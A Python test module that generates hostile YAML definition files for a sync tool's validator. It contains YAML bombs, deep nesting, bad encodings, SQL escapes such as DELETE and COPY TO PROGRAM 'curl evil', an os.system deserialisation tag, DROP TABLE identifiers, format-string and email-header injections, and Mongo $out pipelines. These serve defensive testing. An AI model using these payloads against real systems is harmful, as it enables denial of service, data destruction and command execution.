"""Bad definition files: YAML bombs and deep nesting, mistyped values, queries that leave their
wrapper, hostile identifiers and formulas. Each one goes through ``contactsync validate`` and the DAG
factory's parse; the only good ending is an error naming the file and a key or line.
"""

from __future__ import annotations

import textwrap
from collections.abc import Callable, Iterator

from .cases import CLEAR_ERROR, Case, Inputs

PG = textwrap.dedent(
    """\
    integration: crm
    source:
      name: customers
      type: postgres
      conn_id: crm_pg
      table: public.customers
      fields: [id, email, first_name, age, tags, updated_at]
      updated_field: updated_at
      key: id
    schedule: hourly
    transform:
      email: email.normalizeEmail()
    mapping:
      email: EMAIL
      id: EXT_ID
      first_name: FIRSTNAME
    destination:
      list_ids: [5]
    """
)

FILE = textwrap.dedent(
    """\
    integration: crm
    source:
      name: customers
      type: file
      path: .
      pattern: "*.csv"
      format: csv
      csv: {delimiter: ",", quotechar: '"', encoding: utf-8}
      fields: [id, email, first_name]
      key: id
    transform:
      email: email.normalizeEmail()
    mapping:
      email: EMAIL
      id: EXT_ID
    destination:
      list_ids: [5]
    """
)

MONGO = textwrap.dedent(
    """\
    integration: crm
    source:
      name: customers
      type: mongo
      conn_id: crm_mongo
      collection: users
      fields: [_id, email]
      key: _id
    mapping:
      email: EMAIL
      _id: EXT_ID
    destination:
      list_ids: [5]
    """
)


def replace(old: str, new: str, base: str = PG) -> str:
    """``base`` with its one ``old`` replaced (the generators fail loudly if the base changes)."""
    assert base.count(old) == 1, old
    return base.replace(old, new)


# -- YAML bombs and nesting ---------------------------------------------------------------------


def laughs_seq(width: int = 9, depth: int = 9, indent: str = "", prefix: str = "a") -> str:
    """Billion laughs: ``width ** depth`` scalars from a few hundred bytes (9x9: 387 million)."""
    lines = [f"{indent}{prefix}0: &{prefix}0 [{', '.join(['lol'] * width)}]"]
    for level in range(1, depth):
        aliases = ", ".join([f"*{prefix}{level - 1}"] * width)
        lines.append(f"{indent}{prefix}{level}: &{prefix}{level} [{aliases}]")
    return "\n".join(lines) + "\n"


def laughs_map(width: int = 10, depth: int = 7, indent: str = "  ") -> str:
    """The same with mappings: 10 keys per level, 7 levels (10 million values)."""
    lines = [f"{indent}m0: &m0 {{{', '.join(f'k{i}: lol' for i in range(width))}}}"]
    for level in range(1, depth):
        lines.append(f"{indent}m{level}: &m{level} {{{', '.join(f'k{i}: *m{level - 1}' for i in range(width))}}}")
    return "\n".join(lines) + "\n"


def laughs_in(key_line: str, alias: str = "*a8", base: str = PG) -> str:
    """A good definition whose ``key_line`` (``  fields: X``) gets the bomb's last alias; anchors first."""
    anchors = "anchors:\n" + laughs_seq(indent="  ")
    key, _, _ = key_line.partition(":")
    old = next(line for line in base.splitlines() if line.startswith(key + ":"))
    return anchors + replace(old, f"{key}: {alias}", base)


def quadratic_list(items: int = 500, uses: int = 1000) -> str:
    """One anchor of ``items`` values used ``uses`` times: half a million values from a few kB."""
    return PG + f"extra:\n  list: &l [{', '.join(['x'] * items)}]\n  uses: [{', '.join(['*l'] * uses)}]\n"


def quadratic_string(key: str, size: int = 30_000, uses: int = 2_000) -> str:
    """A ``size`` string anchor used ``uses`` times under ``key`` (30 kB x 2,000: 60 MB after expansion).

    Few values (the values limit does not see it), much text: whatever looks at every string
    (the credential scan) reads the expansion.
    """
    text = "x" * size
    if key == "extra":
        return PG + f"extra:\n  s: &s {text}\n  uses: [{', '.join(['*s'] * uses)}]\n"
    if key == "description":
        return f"anchor: &s {text}\n" + replace("integration: crm", "integration: crm\ndescription: *s")
    if key == "transform":
        uses_text = "".join(f"  f{i}: *s\n" for i in range(uses))
        return f"anchor: &s {text}\n" + replace("transform:\n", "transform:\n" + uses_text)
    raise ValueError(key)


def quadratic_nested(uses: int = 138) -> str:
    """A 32 kB string, a list of 138 aliases to it, a list of 138 aliases to that list: 19,000 values
    (under the values limit) holding 600 MB of text, from a 33 kB file."""
    return PG + (
        f"extra:\n  s: &s '{'a.' * 16_000}'\n  l1: &l1 [{', '.join(['*s'] * uses)}]\n"
        f"  l2: [{', '.join(['*l1'] * uses)}]\n"
    )


def deep_flow(depth: int, opener: str = "[", closer: str = "]", key: str = "extra") -> str:
    return PG + f"{key}: " + opener * depth + closer * depth + "\n"


def deep_flow_map(depth: int) -> str:
    return PG + "extra: " + "{a: " * depth + "x" + "}" * depth + "\n"


def deep_block_seq(depth: int) -> str:
    """``- - - x`` is ``[[[x]]]``: block nesting on one line."""
    return PG + "extra:\n  " + "- " * depth + "x\n"


def deep_block_map(depth: int) -> str:
    """One more space of indentation per level: ``a:`` inside ``a:`` ..."""
    lines = ["extra:"] + [" " * (level + 1) + "a:" for level in range(depth)]
    return PG + "\n".join(lines) + " x\n"


def yaml_cases() -> Iterator[tuple[str, Callable[[], str | bytes], bool, tuple[str, ...]]]:
    """(what, text, limit, keys) of the YAML cases."""
    yield "billion_laughs_9x9", lambda: laughs_seq(), True, ()
    yield "billion_laughs_9x9_unknown_key", lambda: PG + "extra:\n" + laughs_seq(indent="  "), True, ("extra",)
    yield "billion_laughs_map_10x7_unknown_key", lambda: PG + "extra:\n" + laughs_map(), True, ("extra",)
    yield "billion_laughs_in_fields", lambda: laughs_in("  fields: x"), True, ("source.fields",)
    yield "billion_laughs_in_list_ids", lambda: laughs_in("  list_ids: x"), True, ("destination.list_ids",)
    yield (
        "billion_laughs_map_in_mapping",
        lambda: "anchors:\n" + laughs_map() + replace("mapping:\n  email: EMAIL", "mapping: *m6\nx:\n  email: EMAIL"),
        True,
        ("mapping",),
    )
    yield "billion_laughs_12x12", lambda: PG + "extra:\n" + laughs_seq(12, 12, indent="  "), True, ("extra",)
    yield (
        "billion_laughs_merge_keys",
        lambda: (
            PG
            + "extra:\n  m0: &m0 {k: lol}\n"
            + "".join(
                f"  m{i}: &m{i} {{<<: *m{i - 1}, {', '.join(f'k{j}: *m{i - 1}' for j in range(10))}}}\n"
                for i in range(1, 8)
            )
        ),
        False,
        ("extra",),
    )
    yield "quadratic_list_aliases", lambda: quadratic_list(), True, ("extra",)
    yield "quadratic_string_unknown_key", lambda: quadratic_string("extra"), False, ("extra",)
    yield "quadratic_string_nested_aliases", quadratic_nested, False, ("extra",)
    yield "quadratic_string_description", lambda: quadratic_string("description"), False, ("description",)
    yield "quadratic_string_formulas", lambda: quadratic_string("transform"), False, ("transform",)
    yield "recursive_alias_seq", lambda: PG + "extra: &s [*s]\n", False, ("extra",)
    yield "recursive_alias_map", lambda: PG + "extra: &m {self: *m}\n", False, ("extra",)
    yield "recursive_alias_two_anchors", lambda: PG + "extra: &a [&b [*a, *b]]\n", False, ("extra",)
    yield "recursive_alias_merge_key", lambda: PG + "extra: &m {<<: *m, k: v}\n", False, ("extra",)
    yield (
        "recursive_alias_in_fields",
        lambda: replace("fields: [id, email, first_name, age, tags, updated_at]", "fields: &f [id, *f]"),
        False,
        ("source.fields",),
    )
    yield (
        "recursive_alias_in_source",
        lambda: replace("  name: customers", "  name: customers\n  nested: &src {inner: *src}"),
        False,
        ("source",),
    )
    yield "deep_flow_seq_3000", lambda: deep_flow(3000), True, ("extra",)
    yield "deep_flow_seq_10000", lambda: deep_flow(10_000), True, ("extra",)
    yield "deep_flow_map_3000", lambda: deep_flow_map(3000), True, ("extra",)
    yield "deep_flow_map_10000", lambda: deep_flow_map(10_000), True, ("extra",)
    yield "deep_block_seq_3000", lambda: deep_block_seq(3000), True, ("extra",)
    yield "deep_block_seq_10000", lambda: deep_block_seq(10_000), True, ("extra",)
    yield "deep_block_map_3000", lambda: deep_block_map(3000), True, ("extra",)
    yield (
        "deep_nesting_in_fields",
        lambda: replace("fields: [id, email, first_name, age, tags, updated_at]", "fields: " + "[" * 5000 + "]" * 5000),
        True,
        ("source.fields",),
    )
    yield (
        "deep_nesting_in_mongo_filter",
        lambda: replace("collection: users", "collection: users\n  filter: " + "{a: " * 5000 + "1" + "}" * 5000, MONGO),
        True,
        ("source.filter",),
    )
    yield "file_1mb", lambda: PG + "extra: [" + ", ".join(["value"] * 150_000) + "]\n", True, ("extra",)
    yield "file_10mb_description", lambda: replace("schedule: hourly", "description: " + "d" * 10_000_000), True, ()
    yield "keys_100000_unknown", lambda: PG + "".join(f"unknown_{i}: 1\n" for i in range(100_000)), True, ()
    yield "keys_3000_unknown", lambda: PG + "".join(f"unknown_{i}: 1\n" for i in range(3_000)), False, ("unknown",)
    yield (
        "values_30000_in_list_ids",
        lambda: replace("list_ids: [5]", f"list_ids: [{', '.join(['5'] * 30_000)}]"),
        True,
        (),
    )
    yield "duplicate_key", lambda: replace("  email: EMAIL\n", "  email: EMAIL\n  email: SMS\n"), False, ("mapping",)
    yield (
        "duplicate_keys_10000",
        lambda: PG + "".join("schedule: daily\n" for _ in range(10_000)),
        True,
        ("schedule",),
    )
    yield "long_key_60k", lambda: PG + "k" * 60_000 + ": 1\n", False, ()
    yield "int_5000_digits", lambda: replace("key: id", "key: id\n  safety_lag_seconds: " + "9" * 5000), False, ()
    yield "int_5000_digits_as_key", lambda: PG + "9" * 5000 + ": x\n", False, ()
    yield "float_1e999", lambda: replace("list_ids: [5]", "list_ids: [1e999]"), False, ("list_ids",)
    yield "tag_python_object", lambda: PG + 'extra: !!python/object/apply:os.system ["echo pwned"]\n', False, ()
    yield "tag_custom", lambda: replace("list_ids: [5]", "list_ids: !include secrets.yaml"), False, ()
    yield "tag_binary", lambda: replace("  name: customers", "  name: !!binary aGVsbG8="), False, ()
    yield "tag_set", lambda: replace("list_ids: [5]", "list_ids: !!set {5: null}"), False, ()
    yield "tag_timestamp_name", lambda: replace("  name: customers", "  name: !!timestamp 2024-01-01"), False, ()
    yield "two_documents", lambda: PG + "---\n" + PG, False, ()
    yield "document_is_a_list", lambda: "- integration: crm\n- source: x\n", False, ("FILE",)
    yield "document_is_a_scalar", lambda: "just a string\n", False, ("FILE",)
    yield "document_is_empty", lambda: "# nothing but a comment\n", False, ("FILE",)
    yield "complex_key_list", lambda: PG + "? [a, b]\n: c\n", False, ()
    yield "complex_key_map", lambda: replace("mapping:\n", "mapping:\n  ? {a: 1}\n  : EMAIL\n"), False, ("mapping",)
    yield "key_null", lambda: PG + "~: x\n", False, ()
    yield "key_int_in_mapping", lambda: replace("  email: EMAIL\n", "  email: EMAIL\n  5: SMS\n"), False, ("mapping",)
    yield "key_bool_yes", lambda: PG + "yes: x\n", False, ()
    yield "unclosed_flow", lambda: replace("list_ids: [5]", "list_ids: [5"), False, ()
    yield "bad_indentation", lambda: replace("  table: public.customers", "    table: public.customers\n  x"), False, ()


def encoding_cases() -> Iterator[tuple[str, Callable[[], str | bytes], bool, tuple[str, ...]]]:
    """Definition files that are not (only) UTF-8 text; keys ``FILE`` when the whole file is the problem."""
    yield (
        "latin1_byte",
        lambda: replace("schedule: hourly", "description: Caf\udce9\nschedule: hourly").encode(
            "utf-8", "surrogateescape"
        ),
        False,
        (),
    )
    yield "utf16_file", lambda: PG.encode("utf-16"), False, ("FILE",)
    yield "nul_byte_raw", lambda: replace("  name: customers", "  name: cust\x00omers").encode(), False, ()
    yield "binary_garbage", lambda: bytes(range(256)) * 64, False, ("FILE",)
    yield "control_char_raw", lambda: replace("  name: customers", "  name: cust\x07omers").encode(), False, ()
    yield (
        "lone_surrogate_escape",
        lambda: replace("schedule: hourly", 'description: "\\ud800"\nschedule: hourly'),
        False,
        (),
    )
    yield "lone_surrogate_in_name", lambda: replace("  name: customers", '  name: "cust\\udc80omers"'), False, ()
    yield "bom_then_garbage", lambda: b"\xef\xbb\xbf" + b"\xff\xfe\x00\x01" * 100, False, ("FILE",)
    yield (
        "utf8_overlong",
        lambda: replace("  name: customers", "  name: X").encode().replace(b"X", b"\xc0\xaf"),
        False,
        (),
    )
    yield "empty_file", lambda: b"", False, ("FILE",)


# -- values of the wrong type or out of range ---------------------------------------------------------


def value_cases() -> Iterator[tuple[str, str, str]]:
    """(what, text, key the error must name)."""
    for encoding in ("klingon", "rot13", "base64", "hex", "zip", "''", '"utf-8\\0"', "mbcs"):
        what = "encoding_" + "".join(c for c in encoding if c.isalnum()) or "encoding_empty"
        if encoding == "''":
            what = "encoding_empty"
        yield what, replace("encoding: utf-8", f"encoding: {encoding}", FILE), "source.csv.encoding"
    for value in ("true", "1e20", "100000000000000000000", "-5", "'10'", ".inf", ".nan", "1.5", "[10]"):
        yield (
            f"safety_lag_{_slug(value)}",
            replace("key: id", f"key: id\n  safety_lag_seconds: {value}"),
            "source.safety_lag_seconds",
        )
    for value in ("'yes'", "1", "'true'", "null", "[]"):
        yield (
            f"update_existing_{_slug(value)}",
            replace("list_ids: [5]", f"list_ids: [5]\n  update_existing: {value}"),
            "destination.update_existing",
        )
    for value in (
        "[true]",
        "['5']",
        "[1.5]",
        "[-1]",
        "[0]",
        "[100000000000000000000]",
        "5",
        "[[5]]",
        "{a: 1}",
        "[.nan]",
    ):
        yield f"list_ids_{_slug(value)}", replace("list_ids: [5]", f"list_ids: {value}"), "destination.list_ids"
    for value in (".nan", ".inf", "2", "-0.1", "'x'", "true"):
        yield f"max_error_rate_{_slug(value)}", PG + f"alerts:\n  max_error_rate: {value}\n", "alerts.max_error_rate"
    for value in (".inf", "-1", "1e20", "0", "'2000'"):
        yield (
            f"text_max_length_{_slug(value)}",
            replace("list_ids: [5]", f"list_ids: [5]\n  text_max_length: {value}"),
            "destination.text_max_length",
        )
    for value in ("5", "'* * * * * *'", "'99 * * * *'", "'@reboot'", "'" + "* " * 5000 + "'", "[hourly]"):
        yield f"schedule_{_slug(value)}", replace("schedule: hourly", f"schedule: {value}"), "schedule"
    for value in ("''", "ab", '"\\n"', "'\"'", '"\\0"'):
        yield (
            f"delimiter_{_slug(value)}",
            replace('delimiter: ","', f"delimiter: {value}", FILE),
            "source.csv.delimiter",
        )
    for value in ("''", "'ab'", '"\\n"', "','"):
        yield f"quotechar_{_slug(value)}", replace("quotechar: '\"'", f"quotechar: {value}", FILE), "source.csv"
    yield "format_xml", replace("format: csv", "format: xml", FILE), "source.format"
    yield (
        "poke_interval_1e20",
        replace("key: id", "key: id\n  wait_for_file: {poke_interval_seconds: 100000000000000000000}", FILE),
        "source.wait_for_file.poke_interval_seconds",
    )
    yield (
        "stable_seconds_negative",
        replace("key: id", "key: id\n  ready: {stable_seconds: -1}", FILE),
        "source.ready.stable_seconds",
    )
    for what, marker in {
        "format_width": "{name}{name:>9999999999}",  # a 10 GB name
        "attribute": "{name}{name.__class__.__init__.__globals__}",
        "positional": "{name}{0}",
    }.items():
        yield (
            f"done_marker_{what}",
            replace("key: id", f"key: id\n  ready: {{done_marker: '{marker}'}}", FILE),
            "source.ready.done_marker",
        )
    yield "version_2", "version: 2\n" + PG, "version"
    yield (
        "fields_empty",
        replace("fields: [id, email, first_name, age, tags, updated_at]", "fields: []"),
        "source.fields",
    )
    yield (
        "fields_a_string",
        replace("fields: [id, email, first_name, age, tags, updated_at]", "fields: id"),
        "source.fields",
    )
    yield "key_not_a_field", replace("key: id", "key: nope"), "source"
    yield (
        "alert_email_header_injection",
        PG + 'alerts:\n  emails: ["ops@example.com\\nBcc: all@example.com"]\n',
        "alerts.emails",
    )
    yield "alert_email_two_addresses", PG + "alerts:\n  emails: ['a@example.com, b@example.com']\n", "alerts.emails"


def _slug(value: str) -> str:
    words = {
        ".": "dot",
        ",": "comma",
        "-": "minus",
        "[": "list",
        "{": "map",
        "'": "",
        '"': "dq",
        "\\": "esc",
        "*": "star",
        " ": "",
    }
    text = ("long_" if len(value) > 50 else "") + "".join(words.get(c, c) for c in value)
    text = "".join(c if c.isalnum() or c == "_" else "_" for c in text)[:24].strip("_")
    return text or "empty"


# -- queries ----------------------------------------------------------------------------------------


def query(source_type: str, text: str) -> str:
    conn = {"postgres": "crm_pg", "bigquery": "crm_bq", "snowflake": "crm_sf"}[source_type]
    base = replace("type: postgres", f"type: {source_type}")
    base = replace("conn_id: crm_pg", f"conn_id: {conn}", base)
    return replace("table: public.customers", f"query: {text}", base)


ESCAPE_THE_WRAPPER = '"SELECT * FROM public.customers ) s; DELETE FROM public.customers; --"'


def query_cases() -> Iterator[tuple[str, str, str, bool]]:
    """(what, text, key, limit)."""
    for kind in ("postgres", "bigquery", "snowflake"):
        yield f"escapes_wrapper_{kind}", query(kind, ESCAPE_THE_WRAPPER), "source.query", False
    yield "two_statements", query("postgres", '"SELECT * FROM t; DELETE FROM t"'), "source.query", False
    yield (
        "data_modifying_cte",
        query("postgres", '"WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d"'),
        "source.query",
        False,
    )
    yield "select_into", query("postgres", '"SELECT * INTO stolen FROM public.customers"'), "source.query", False
    yield "copy_to_program", query("postgres", "\"COPY t TO PROGRAM 'curl evil'\""), "source.query", False
    yield "empty", query("postgres", '""'), "source.query", False
    yield "nul", query("postgres", '"SELECT * FROM t\\0"'), "source.query", False
    yield (
        "nested_parens_300",
        query("postgres", '"SELECT * FROM t WHERE ' + "(" * 300 + "id = 1" + ")" * 300 + '"'),
        "source.query",
        True,
    )
    yield (
        "nested_parens_5000",
        query("postgres", '"SELECT * FROM t WHERE ' + "(" * 5000 + "id = 1" + ")" * 5000 + '"'),
        "source.query",
        True,
    )
    yield (
        "nested_subqueries_200",
        query("postgres", '"' + "SELECT * FROM (" * 200 + "SELECT 1 AS id" + ") s" * 200 + '"'),
        "source.query",
        True,
    )
    yield (
        "query_60kb",
        query("postgres", '"SELECT * FROM t WHERE id IN (' + ", ".join(["1"] * 20_000) + ')"'),
        "source.query",
        True,
    )
    yield "table_and_query", replace("table: public.customers", "table: t\n  query: SELECT 1"), "source", False
    yield (
        "mongo_pipeline_out",
        replace("collection: users", "collection: users\n  pipeline: [{$match: {}}, {$out: stolen}]", MONGO),
        "source.pipeline",
        False,
    )
    yield (
        "mongo_pipeline_merge",
        replace("collection: users", "collection: users\n  pipeline: [{$merge: {into: stolen}}]", MONGO),
        "source.pipeline",
        False,
    )


# -- identifiers --------------------------------------------------------------------------------------

HOSTILE_NAMES = {
    "quote": '"cust\'omers"',
    "semicolon": "'customers;drop'",
    "unicode": "cüstomers",
    "rtl_override": '"cust\\u202eomers"',
    "nul": '"cust\\0omers"',
    "newline": '"cust\\nomers"',
    "double_underscore": "cust__omers",
    "path": "'../customers'",
    "long_10k": "c" * 10_000,
    "emoji": '"cust\\U0001F600"',
}


def identifier_cases() -> Iterator[tuple[str, str, str]]:
    """(what, text, key)."""
    for what, value in HOSTILE_NAMES.items():
        yield f"integration_{what}", replace("integration: crm", f"integration: {value}"), "integration"
        yield f"source_name_{what}", replace("name: customers", f"name: {value}"), "source.name"
    fields = "fields: [id, email, first_name, age, tags, updated_at]"
    for what, value in {
        "quote": "'a\"b'",
        "nul": '"a\\0b"',
        "empty": "''",
        "semicolon": "'a;b'",
        "unicode": "prénom",
        "long_10k": "f" * 10_000,
        "duplicate": "email",
    }.items():
        yield f"field_{what}", replace(fields, fields[:-1] + f", {value}]"), "source.fields"
    for what, value in {
        "injection": "'public.t\"; DROP TABLE x; --'",
        "backtick": "'a`.b'",
        "nul": '"public.cu\\0stomers"',
        "unicode": "public.clïents",
        "long_10k": "t" * 10_000,
        "four_parts": "a.b.c.d",
    }.items():
        yield f"table_{what}", replace("table: public.customers", f"table: {value}"), "source.table"
    for what, value in {
        "nul": '"crm\\0pg"',
        "quote": '"crm_pg\'; DROP"',
        "newline": '"crm\\npg"',
        "long_10k": "c" * 10_000,
        "unicode": "crm_pg_é",
    }.items():
        yield f"conn_id_{what}", replace("conn_id: crm_pg", f"conn_id: {value}"), "source.conn_id"
    for what, value in {
        "semicolon": "'EMAIL; DROP'",
        "lower": "email",
        "unicode": "ÉMAIL",
        "nul": '"EMA\\0IL"',
    }.items():
        yield f"attribute_{what}", replace("  first_name: FIRSTNAME", f"  first_name: {value}"), "mapping.first_name"
    yield "transform_key_nul", replace("transform:\n", 'transform:\n  "e\\0mail": email\n'), "transform"
    yield "transform_key_quote", replace("transform:\n", 'transform:\n  "e\'mail": email\n'), "transform"
    yield "key_nul", replace("key: id", 'key: "i\\0d"'), "source.key"
    yield "updated_field_nul", replace("updated_field: updated_at", 'updated_field: "updated\\0at"'), "source"
    yield "description_nul", replace("schedule: hourly", 'description: "a\\0b"\nschedule: hourly'), "description"
    yield (
        "description_10k",
        replace("schedule: hourly", f"description: {'d' * 10_000}\nschedule: hourly"),
        "description",
    )
    yield "destination_conn_id_quote", replace("list_ids: [5]", 'list_ids: [5]\n  conn_id: "brevo\'; x"'), "destination"
    yield "path_nul", replace("path: .", 'path: "in\\0box"', FILE), "source.path"
    yield "pattern_nul", replace('pattern: "*.csv"', 'pattern: "*\\0.csv"', FILE), "source.pattern"
    yield "collection_nul", replace("collection: users", 'collection: "us\\0ers"', MONGO), "source.collection"
    yield "collection_dollar", replace("collection: users", "collection: $cmd", MONGO), "source.collection"


# -- formulas -----------------------------------------------------------------------------------------


def formula(text: str, field: str = "email", base: str = PG) -> str:
    """``base`` whose ``transform.<field>`` is ``text`` (single-quoted YAML: CEL sees it as written)."""
    quoted = "'" + text.replace("'", "''") + "'"
    if field == "email":
        return replace("  email: email.normalizeEmail()", f"  email: {quoted}", base)
    return replace("transform:\n", f"transform:\n  {field}: {quoted}\n", base)


def nested_exists(depth: int) -> str:
    """``[1,2].exists(a0, [1,2].exists(a1, ... false))``: 2 ** depth steps a row."""
    text = "false"
    for level in reversed(range(depth)):
        text = f"[1, 2].exists(a{level}, {text})"
    return text


def formula_cases() -> Iterator[tuple[str, str, bool]]:
    """(what, text, limit); the key is always ``transform.<field>``."""
    yield "formula_100kb", formula("email" + " + email" * 12_500), True
    yield "formula_60kb", formula("email" + " + email" * 7_500), True
    yield "nested_exists_30", formula(f"{nested_exists(30)} ? email : email"), True
    yield "unary_not_3000", formula("!" * 3000 + "true ? email : email"), True
    yield "unary_minus_3000", formula("-" * 3000 + "1", field="n"), True
    yield "nested_lists_1900", formula("[" * 1900 + "1" + "]" * 1900, field="n"), True
    yield "nested_ternary_500", formula("true ? email : " * 500 + "email"), True
    yield "method_chain_1000", formula("email" + ".trim()" * 1000), True
    yield "int_literal_5000_digits", formula("first_name + string(" + "9" * 5000 + ")", field="first_name"), False
    yield "lone_surrogate_literal", formula('first_name + "\\ud800"', field="first_name"), False
    yield "nul_in_formula", formula('first_name + "\\x00"', field="first_name").replace("\\x00", "\x00"), False
    yield "regex_literal_invalid", formula('email.matches("(") ? email : email'), False
    yield "regex_literal_backreference", formula('email.matches("(a)\\\\1") ? email : email'), False
    yield "regex_literal_repeat_1001", formula('email.matches("a{1001}") ? email : email'), False
    yield "unknown_function_10k_name", formula("email." + "f" * 3000 + "()"), False
    yield "syntax_error_deep", formula("(" * 1000 + "email +" + ")" * 1000), False


# -- the cases ----------------------------------------------------------------------------------------


def _inputs(text: Callable[[], str | bytes]) -> Callable[[], Inputs]:
    def make() -> Inputs:
        value = text()
        data = value.encode("utf-8", "surrogatepass") if isinstance(value, str) else value
        return Inputs(definition=data)

    return make


def _both(kind: str, what: str, text: Callable[[], str | bytes], *, limit: bool, keys: tuple[str, ...]) -> list[Case]:
    good = frozenset({CLEAR_ERROR})
    file_level = keys == ("FILE",)
    return [
        Case(
            f"{channel}/{kind}/{what}",
            channel,
            kind,
            _inputs(text),
            good,
            limit=limit,
            keys=() if file_level else keys,
            file_level=file_level,
        )
        for channel in ("validate", "parse")
    ]


def _const(text: str) -> Callable[[], str]:
    return lambda: text


def definition_cases() -> list[Case]:
    """Every bad definition, through validate and through the DAG factory's parse."""
    cases: list[Case] = []
    for what, make, limit, keys in yaml_cases():
        cases += _both("yaml", what, make, limit=limit, keys=keys)
    for what, make, limit, keys in encoding_cases():
        cases += _both("encoding", what, make, limit=limit, keys=keys)
    for what, text, key in value_cases():
        cases += _both("value", what, _const(text), limit=False, keys=(key,))
    for what, text, key, limit in query_cases():
        cases += _both("query", what, _const(text), limit=limit, keys=(key,))
    for what, text, key in identifier_cases():
        cases += _both("identifier", what, _const(text), limit=False, keys=(key,))
    for what, text, limit in formula_cases():
        cases += _both("formula", what, _const(text), limit=limit, keys=("transform",))
    return cases
